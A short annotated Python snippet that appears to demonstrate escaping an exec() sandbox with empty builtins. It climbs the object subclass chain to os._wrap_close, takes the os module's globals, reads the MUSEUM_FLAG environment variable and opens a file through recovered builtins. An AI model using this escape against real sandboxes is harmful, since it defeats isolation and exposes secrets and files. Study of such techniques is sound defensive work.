# The oldest sandbox of all, found in every forum: exec with no builtins. It takes away names, and
# names are not what an object needs to lead to every other.

program = """
# No print, no len, no import. But a tuple is an object, its class has a base, and that base knows
# the classes made directly from it, whoever made them.
for kind in ().__class__.__base__.__subclasses__():
    # This one is in the module os. The globals of its methods are that module's names.
    if kind.__name__ == "_wrap_close":
        names = kind.__init__.__globals__
        flag = names["environ"]["MUSEUM_FLAG"]
        # And in the globals of every module lie all the builtins that we were not given.
        builtins = names["__builtins__"]
        print = builtins["print"]
        print(flag)
        print(builtins["open"](outside["file"]).read())
"""

exec(program, {"__builtins__": {}, "outside": outside})
